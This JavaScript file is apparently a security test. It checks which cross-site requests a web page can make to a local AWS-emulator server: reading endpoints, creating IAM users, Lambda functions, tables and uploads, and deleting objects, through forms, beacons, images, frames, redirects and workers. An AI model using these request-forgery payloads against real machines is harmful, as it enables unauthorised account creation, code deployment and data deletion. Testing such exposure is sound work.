// What a page may try on a server of the machine that shows it. SERVER is replaced by its address, PAGES by that of this page's own
// server, ZIP by a package of code. Every attack uses a name of its own for what it makes, so that one sees whose it is. The
// server's bucket "kept" is there.
const server = "SERVER";
const pages = "PAGES";
const day = new Date().toISOString().replace(/[-:]|\.\d+/g, "");
const signedFor = (service) =>
  `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=${day}&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=00` +
  `&X-Amz-Credential=AKIA%2F${day.slice(0, 8)}%2Fus-east-1%2F${service}%2Faws4_request`;
const results = {};
const made = { users: [], uploads: [], functions: [], tables: [], buckets: [], objects: [] };
const attempts = [];

function attempt(name, action) {
  const run = async () => {
    try {
      results[name] = await action();
    } catch (error) {
      results[name] = `failed: ${error.message}`;
    }
  };
  attempts.push(run());
}

// ---- what requests would do; each notes the name of what it makes

const note = (kind, name) => (made[kind].push(name), name);
const createUser = (name) => `Action=CreateUser&Version=2010-05-08&UserName=${note("users", name)}`;
const user = (name) => `${server}/?${createUser(name)}&${signedFor("iam")}`; // by GET
const upload = (name) => `${server}/kept/${note("uploads", name)}?uploads&${signedFor("s3")}`; // by POST, whatever the body
const functions = `${server}/2015-03-31/functions?${signedFor("lambda")}`;
const code = (name) =>
  JSON.stringify({ FunctionName: note("functions", name), Runtime: "python3.11", Handler: "a.b", Role: "arn:aws:iam::000000000000:role/r", Code: { ZipFile: "ZIP" } });
const table = (name) =>
  JSON.stringify({
    TableName: note("tables", name),
    BillingMode: "PAY_PER_REQUEST",
    AttributeDefinitions: [{ AttributeName: "pk", AttributeType: "S" }],
    KeySchema: [{ AttributeName: "pk", KeyType: "HASH" }],
  });
const dynamodb = (operation) => ({
  "X-Amz-Target": `DynamoDB_20120810.${operation}`,
  "Content-Type": "application/x-amz-json-1.0",
  "X-Amz-Date": day,
  Authorization: `AWS4-HMAC-SHA256 Credential=AKIA/${day.slice(0, 8)}/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00`,
});
const form = { "Content-Type": "application/x-www-form-urlencoded" };
const text = { "Content-Type": "text/plain" };

// ---- ways to send one

const ask = (url, options) => fetch(url, options).then((response) => (response.type === "opaque" ? "opaque" : `read ${response.status}`));
const after = (ms, what) => new Promise((resolve) => setTimeout(() => resolve(what), ms));

function element(tag, attributes, parent = document.body) {
  return new Promise((resolve) => {
    const one = document.createElement(tag);
    one.onload = () => resolve("loaded");
    one.onerror = () => resolve("not loaded");
    for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value);
    parent.append(one);
    setTimeout(() => resolve("nothing came"), 3000);
  });
}

function submit(method, enctype, action, fields) {
  const target = `frame${Math.random()}`;
  const loaded = element("iframe", { name: target });
  const one = Object.assign(document.createElement("form"), { method, enctype, action, target });
  for (const [name, value] of Object.entries(fields)) one.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(one);
  return loaded.then(() => (one.submit(), after(1000, "sent")));
}

const inFrame = (html, attributes = {}) => element("iframe", { srcdoc: html.replaceAll("&", "&amp;"), ...attributes }).then(() => after(1000, "sent"));
const fields = (query) => Object.fromEntries(new URLSearchParams(query));
const style = (css) => (document.head.append(Object.assign(document.createElement("style"), { textContent: css })), after(1000, "sent"));
const redirect = (status, to) => `${pages}/redirect?${status}&${encodeURIComponent(to)}`;

// ---- reading

for (const path of ["/", "/health", "/_localstack/health", "/metrics", `/kept/object?${signedFor("s3")}`, `/?Action=ListUsers&Version=2010-05-08&${signedFor("iam")}`]) {
  const name = path.split(/[?&]X-Amz/)[0];
  attempt(`read ${name}`, () => ask(server + path));
  attempt(`read ${name} with a header`, () => ask(server + path, { headers: { "X-Amz-Date": day } }));
  attempt(`read ${name} blind`, () => ask(server + path, { mode: "no-cors" }));
  attempt(`read ${name} with credentials`, () => ask(server + path, { credentials: "include" }));
}
attempt("script in an object", () => element("script", { src: `${server}/kept/script?${signedFor("s3")}` }).then((outcome) => (window.ran ? "ran" : outcome)));
attempt("read by XHR", () =>
  new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(`read ${request.status}`);
    request.onerror = () => resolve("refused");
    request.open("GET", server + "/health");
    request.send();
  }));
attempt("list tables", () => ask(server, { method: "POST", headers: dynamodb("ListTables"), body: "{}" }));

// ---- what asks first (preflights)

attempt("create a table", () => ask(server, { method: "POST", headers: dynamodb("CreateTable"), body: table("preflight") }));
attempt("create a bucket", () => ask(`${server}/${note("buckets", "put")}?${signedFor("s3")}`, { method: "PUT" }));
attempt("put an object", () => ask(`${server}/kept/${note("objects", "put")}?${signedFor("s3")}`, { method: "PUT", body: "x" }));
attempt("delete an object", () => ask(`${server}/kept/object?${signedFor("s3")}`, { method: "DELETE" }));
attempt("delete a function", () => ask(`${server}/2015-03-31/functions/none?${signedFor("lambda")}`, { method: "DELETE" }));
for (const path of ["/metrics", "/health"]) attempt(`post to ${path}`, () => ask(server + path, { method: "POST", headers: dynamodb("ListTables"), body: "{}" }));

// ---- what does not ask

attempt("post JSON as text", () => ask(server, { method: "POST", headers: text, body: "{}" }));
attempt("post a target without CORS", () => ask(server, { method: "POST", mode: "no-cors", headers: dynamodb("CreateTable"), body: "{}" }));
attempt("function", () => ask(functions, { method: "POST", mode: "no-cors", headers: text, body: code("fetch") }));
attempt("function by a form", () => submit("POST", "text/plain", functions, { [code("form").slice(0, -1) + ',"Description":"']: '"}' }));
attempt("invoke", () => ask(`${server}/2015-03-31/functions/f/invocations?${signedFor("lambda")}`, { method: "POST", mode: "no-cors", body: "{}" }));
attempt("action by POST", () => ask(`${server}/?${signedFor("iam")}`, { method: "POST", mode: "no-cors", headers: form, body: createUser("post") }));
attempt("action by POST, no referrer", () =>
  ask(`${server}/?${signedFor("iam")}`, { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", headers: form, body: createUser("post-no-referrer") }));
attempt("action by a form", () => submit("POST", "application/x-www-form-urlencoded", `${server}/?${signedFor("iam")}`, fields(createUser("form"))));
attempt("action by a beacon", () => String(navigator.sendBeacon(`${server}/?${signedFor("iam")}`, new URLSearchParams(createUser("beacon")))));
attempt("action by a form of a sandboxed frame", () =>
  inFrame(`<form method=POST action="${server}/?${signedFor("iam")}"><input name=Action value=CreateUser><input name=Version value=2010-05-08>
    <input name=UserName value=${note("users", "sandboxed-form")}></form><script>document.forms[0].submit()</script>`, { sandbox: "allow-scripts allow-forms" }));
attempt("upload", () => ask(upload("fetch"), { method: "POST", mode: "no-cors" }));
attempt("upload by a beacon", () => String(navigator.sendBeacon(upload("beacon"), "x")));
attempt("upload by a form as text", () => submit("POST", "text/plain", upload("form-text"), { a: "b" }));
attempt("upload by a form of files", () => submit("POST", "multipart/form-data", upload("form-files"), { a: "b" }));
attempt("upload by a ping", () => {
  const link = Object.assign(document.createElement("a"), { href: "#here", ping: upload("ping") });
  document.body.append(link);
  link.click();
  return after(1000, "sent");
});
attempt("upload by a report", () => element("iframe", { src: `/reports?${encodeURIComponent(upload("report"))}` }).then(() => after(1000, "sent")));
attempt("upload by a redirected form", () => submit("POST", "text/plain", redirect(307, upload("redirected-form")), { a: "b" }));
attempt("upload by a redirected fetch", () => ask(redirect(307, upload("redirected-fetch")), { method: "POST", mode: "no-cors" }));
attempt("upload by a worker", () =>
  new Promise((resolve) => {
    const source = `fetch("${upload("worker")}", {method: "POST", mode: "no-cors"}).then((r) => postMessage(r.type), () => postMessage("refused"))`;
    new Worker(URL.createObjectURL(new Blob([source]))).onmessage = ({ data }) => resolve(data);
  }));
attempt("form of S3", () => submit("POST", "multipart/form-data", `${server}/kept`, { key: note("objects", "posted"), file: "x" }));

// ---- addresses that are merely loaded

attempt("action by GET", () => ask(user("get"), { mode: "no-cors" }));
attempt("action by GET, no referrer", () => ask(user("get-no-referrer"), { mode: "no-cors", referrerPolicy: "no-referrer" }));
attempt("action by a redirected GET", () => ask(redirect(302, user("get-redirected")), { mode: "no-cors" }));
attempt("image", () => element("img", { src: user("img") }));
attempt("image, redirected", () => element("img", { src: redirect(302, user("img-redirected")) }));
attempt("image button", () => element("input", { type: "image", src: user("input") }));
attempt("image of a style", () => style(`body { background: url("${user("background")}") }`));
attempt("imported style", () => style(`@import "${user("import")}";`));
attempt("script", () => element("script", { src: user("script") }));
attempt("style", () => element("link", { rel: "stylesheet", href: user("style") }));
attempt("icon", () => element("link", { rel: "preload", as: "image", href: user("preload") }));
attempt("prefetch", () => element("link", { rel: "prefetch", href: user("prefetch") }));
attempt("frame", () => element("iframe", { src: user("iframe") }));
attempt("frame, sandboxed", () => element("iframe", { src: user("iframe-sandboxed"), sandbox: "" }));
attempt("frame without referrer", () => element("iframe", { src: user("iframe-no-referrer"), referrerpolicy: "no-referrer" }));
attempt("object", () => element("object", { data: user("object") }));
attempt("embed", () => element("embed", { src: user("embed") }));
attempt("video", () => element("video", { src: user("video"), autoplay: "" }));
attempt("audio", () => element("audio", { src: user("audio"), autoplay: "" }));
attempt("form by GET", () => submit("GET", "application/x-www-form-urlencoded", server + "/", fields(new URL(user("form-get")).search)));
attempt("refresh", () => inFrame(`<meta http-equiv=refresh content="0;url=${user("refresh")}">`));
attempt("link", () => inFrame(`<a href="${user("link")}">x</a><script>document.links[0].click()</script>`));
attempt("worker's script", () => (new Worker(URL.createObjectURL(new Blob([`importScripts("${user("import-scripts")}")`]))), after(1000, "sent")));
attempt("WebSocket", () =>
  new Promise((resolve) => {
    const socket = new WebSocket(user("websocket").replace("http", "ws"));
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve("refused");
  }));
attempt("EventSource", () =>
  new Promise((resolve) => {
    const source = new EventSource(user("event-source"));
    source.onopen = () => resolve("opened");
    source.onerror = () => (source.close(), resolve("refused"));
  }));
for (const path of ["/metrics", "/health"]) {
  attempt(`script ${path}`, () => element("script", { src: server + path }));
  attempt(`frame ${path}`, () => element("iframe", { src: server + path }));
}
await Promise.all(attempts);
await fetch("/report", { method: "POST", body: JSON.stringify({ results, made }) });
